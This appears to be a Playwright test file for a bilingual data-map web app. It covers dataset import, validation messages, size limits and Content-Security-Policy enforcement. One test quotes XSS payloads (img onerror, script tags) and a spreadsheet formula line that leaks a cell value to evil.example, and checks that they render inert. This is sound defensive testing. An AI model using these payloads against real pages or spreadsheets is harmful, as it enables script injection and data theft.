import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { Page } from '@playwright/test';
import { miniDatasetJson } from '../fixtures/mini-dataset';
import { expect, mapPoint, test, waitForApp, waitForCharts } from './fixtures';

const PANZHIHUA: [number, number] = [101.75, 26.65];
const CHENGDU: [number, number] = [104.07, 30.67];

const GOOD_CSV = [
  'effort_id,region_code,organisation_names,organisation_types,activities,date_kind,date_start,date_end,summary_zh,summary_en,quote,value,unit,qualifier,figure,label_zh,label_en',
  'cd-test,510100,测试志愿队,united-front-department,testing-site-support,on,2022-09-05,,测试摘要,Test summary,参与志愿服务300余人次,300,person-times,at-least,300余人次,志愿服务,volunteering',
  'pzh-test,510400,测试公司,private-enterprise,donations,,,,捐款,Donation,捐款1万元,10000,yuan,exact,1万元,捐款,donations',
].join('\n');

async function pick(page: Page, name: string, text: string): Promise<void> {
  await page.getByTestId('import-input').setInputFiles({
    name,
    mimeType: name.endsWith('.csv') ? 'text/csv' : 'application/json',
    buffer: Buffer.from(text, 'utf8'),
  });
}

const list = (page: Page) => page.getByTestId('dataset-list').locator('li');

test.describe('import', () => {
  test('a good JSON file is listed, kept across a reload, shown on request, and removed', async ({
    page,
  }) => {
    await page.goto('./');
    await waitForApp(page);
    // The panel starts as one line; opened, it lists the bundled dataset.
    await page.getByTestId('import-panel').getByRole('heading', { name: '数据集' }).click();
    await expect(list(page)).toHaveCount(1);
    await pick(page, 'mini.json', JSON.stringify(miniDatasetJson()));
    await expect(page.getByTestId('import-done')).toHaveText('已导入“小数据集”：3 项行动，5 项数据。');
    await expect(list(page)).toHaveCount(2);
    const mini = page.locator('li.import-dataset[data-dataset-id="mini"]');
    await expect(mini).toContainText('导入自 mini.json（JSON');
    await expect(mini).toContainText('3 项行动 · 5 项数据 · 3 个组织 · 6 个地区');
    // Not shown until the user chooses it.
    await expect(page.getByTestId('count-efforts')).toHaveText('51');

    await page.reload();
    await waitForApp(page);
    await expect(page.locator('li.import-dataset[data-dataset-id="mini"]')).toBeVisible();
    await page.getByRole('button', { name: '在地图和图表中显示“小数据集”' }).click();
    await expect(page.getByTestId('count-efforts')).toHaveText('3');
    await waitForCharts(page);
    // With two datasets loaded, the dossier says where each figure comes from.
    const p = await mapPoint(page, PANZHIHUA);
    await page.mouse.click(p.x, p.y);
    await expect(page.getByTestId('dossier').locator('.measure__dataset').first()).toHaveText(
      '数据集：小数据集',
    );

    await page.getByRole('button', { name: '移除数据集“小数据集”' }).click();
    await expect(list(page)).toHaveCount(1);
    await expect(page.getByTestId('count-efforts')).toHaveText('51');
    await page.reload();
    await waitForApp(page);
    await page.getByTestId('import-panel').getByRole('heading', { name: '数据集' }).click();
    await expect(list(page)).toHaveCount(1);
  });

  test('a good CSV file imports with its figures', async ({ page }) => {
    await page.goto('./?lang=en');
    await waitForApp(page);
    await pick(page, 'field notes.csv', GOOD_CSV);
    await expect(page.getByTestId('import-done')).toHaveText('Imported “field notes”: 2 efforts, 2 figures.');
    await page.getByRole('button', { name: 'Show “field notes” on the map and charts' }).click();
    await expect(page.getByTestId('count-efforts')).toHaveText('2');
    await waitForCharts(page);
    const p = await mapPoint(page, CHENGDU);
    await page.mouse.click(p.x, p.y);
    const dossier = page.getByTestId('dossier');
    await expect(dossier.locator('.measure strong')).toHaveText('300+ person-times');
    await expect(dossier.locator('.measure-group blockquote')).toHaveText('参与志愿服务300余人次');
  });

  test('a bad file shows located errors in zh and en and changes nothing', async ({ page }) => {
    await page.goto('./');
    await waitForApp(page);
    await pick(page, 'mini.json', JSON.stringify(miniDatasetJson()));
    await expect(list(page)).toHaveCount(2);
    const bad = miniDatasetJson() as unknown as { efforts: Array<Record<string, unknown>> };
    bad.efforts[1]!.regionCode = '5104';
    const badCsv = GOOD_CSV.replace(',person-times,', ',bananas,');
    await pick(page, 'broken.json', JSON.stringify(bad));
    const errors = page.getByTestId('import-errors');
    await expect(errors).toContainText('“broken.json”未导入：发现 1 个问题。已加载的数据没有改变。');
    await expect(errors.locator('li')).toHaveText([
      'efforts[1].regionCode：应为六位 GB/T 2260 行政区划代码，如 "510100"',
    ]);
    await pick(page, 'broken.csv', badCsv);
    await expect(errors.locator('li').first()).toHaveText(/^第 2 行，“unit”列：应为以下之一：persons, /);
    await page.getByRole('button', { name: '切换到英文界面' }).click();
    await expect(errors.locator('li').first()).toHaveText(/^row 2, column "unit": expected one of persons, /);
    // A .txt is a report's text, never a dataset: alone, it is refused with what to add.
    await pick(page, 'notes.txt', 'hello, world');
    await expect(errors.locator('li').first()).toHaveText(
      '"notes.txt" is a report text, not a dataset: add the CSV or JSON it belongs to (choose or drop both files together)',
    );
    // Nothing already loaded has changed.
    await expect(list(page)).toHaveCount(2);
    await expect(page.getByTestId('count-efforts')).toHaveText('51');
    await expect(page.locator('li.import-dataset[data-dataset-id="mini"]')).toContainText('3 efforts');
  });

  test('a file over the size limit is refused at once with a clear message', async ({ page }) => {
    await page.goto('./?lang=en');
    await waitForApp(page);
    await pick(page, 'huge.json', `{"x":"${'a'.repeat(6 * 1024 * 1024)}"}`);
    await expect(page.getByTestId('import-errors').locator('li')).toHaveText([
      'the file is too large (6.0 MB); the limit is 5.0 MB',
    ]);
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Tongxin Atlas');
  });

  test('a hostile dataset renders inert: no dialog, no script, no injected element', async ({ page }) => {
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto('./');
    await waitForApp(page);
    const text = readFileSync(resolve('tests/fixtures/hostile-dataset.json'), 'utf8');
    await pick(page, 'hostile.json', text);
    await expect(page.getByTestId('import-done')).toBeVisible();
    const item = page.locator('li.import-dataset[data-dataset-id="hostile-fixture"]');
    await expect(item).toContainText('敌意数据 <img src=x onerror="window.__pwned=1;alert(1)">');
    await item.getByRole('button', { name: /^在地图和图表中显示/ }).click();
    await waitForCharts(page);
    await expect(page.locator('.app-source')).toContainText(
      '敌意来源 <script>window.__pwned=1;alert(1)</script>',
    );

    // Dossier of Panzhihua (hostile region name, organisations, summaries, labels, quotes).
    const p = await mapPoint(page, PANZHIHUA);
    await page.mouse.move(p.x, p.y);
    await page.mouse.click(p.x, p.y);
    const dossier = page.getByTestId('dossier');
    await expect(dossier.getByRole('heading', { level: 2 })).toHaveText('攀枝花市<b>粗</b>{a|b}');
    await expect(dossier).toContainText('摘要 <img src=x onerror="window.__pwned=1;alert(1)"> <script>');
    await expect(dossier).toContainText('=HYPERLINK("http://evil.example/?leak="&A1,"点我 click")');
    await expect(dossier.locator('.measure__dataset').first()).toContainText('敌意数据 <img');

    // Every chart tab, as chart and as table; filters with hostile labels.
    for (const tab of ['组织类型', '谁 × 做什么', '时间线', '各地区']) {
      await page.getByRole('tab', { name: tab }).click();
      await waitForCharts(page);
    }
    await page.getByRole('button', { name: '表格', exact: true }).click();
    await expect(page.locator('table').first()).toBeVisible();
    await page.getByRole('button', { name: '图表', exact: true }).click();
    await page.getByRole('button', { name: /^类型<script>/ }).click();
    await waitForCharts(page);
    // Chengdu: the 100,000-character quote.
    const q = await mapPoint(page, CHENGDU);
    await page.mouse.click(q.x, q.y);
    await expect(dossier.getByRole('heading', { level: 2 })).toHaveText('成都市');
    // The source reader cites the hostile title.
    await page.getByRole('button', { name: '阅读原文' }).click();
    await expect(page.getByTestId('source-reader')).toContainText('敌意来源 <script>');
    await page.keyboard.press('Escape');

    // English labels too.
    await page.getByRole('button', { name: '切换到英文界面' }).click();
    await expect(page.locator('.app-source')).toContainText('Hostile source <img src=x');
    await waitForCharts(page);

    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    await expect(page.locator('img[src="x"]')).toHaveCount(0);
    await expect(page.locator('main script, main svg[onload], main iframe, [onerror]')).toHaveCount(0);
    await expect(page.locator('a[href^="javascript:"]')).toHaveCount(0);
  });
});

// Without the `problems` fixture: this test provokes violations on purpose.
test('the served build enforces the Content-Security-Policy (header and meta)', async ({ page }) => {
  const violations: string[] = [];
  await page.exposeFunction('__reportViolation', (v: string) => violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __reportViolation: (v: string) => void }).__reportViolation(
        e.effectiveDirective,
      );
    });
  });
  const response = await page.goto('./');
  const header = response?.headers()['content-security-policy'] ?? '';
  expect(header).toContain("script-src 'self'");
  expect(header).toContain("frame-ancestors 'none'");
  expect(header).not.toContain('unsafe-inline');
  expect(header).not.toContain('unsafe-eval');
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
    'content',
    /default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:;.*object-src 'none'; base-uri 'self'/,
  );
  await waitForApp(page);
  const outcome = await page.evaluate(() => {
    const w = window as unknown as { __inline?: number };
    const script = document.createElement('script');
    script.textContent = 'window.__inline = 1';
    document.head.append(script);
    const div = document.createElement('div');
    div.setAttribute('style', 'color: red');
    document.body.append(div);
    const img = document.createElement('img');
    img.src = 'https://example.org/pixel.png';
    document.body.append(img);
    return { inline: w.__inline, color: getComputedStyle(div).color };
  });
  expect(outcome.inline).toBeUndefined();
  expect(outcome.color).not.toBe('rgb(255, 0, 0)');
  // (eval is not tried here: code run through the DevTools protocol is exempt from the policy.)
  await expect
    .poll(() => [...new Set(violations)].sort())
    .toEqual(['img-src', 'script-src-elem', 'style-src-attr']);
});
